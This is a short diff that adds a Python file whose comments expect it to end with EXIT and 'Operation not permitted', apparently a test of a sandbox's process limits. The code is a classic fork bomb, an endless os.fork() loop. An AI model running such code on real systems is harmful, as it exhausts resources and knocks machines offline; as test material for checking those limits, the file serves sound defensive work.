@@ -1,0 +1,5 @@
+# ends EXIT
+# says Operation not permitted
+import os
+while True:
+    os.fork()
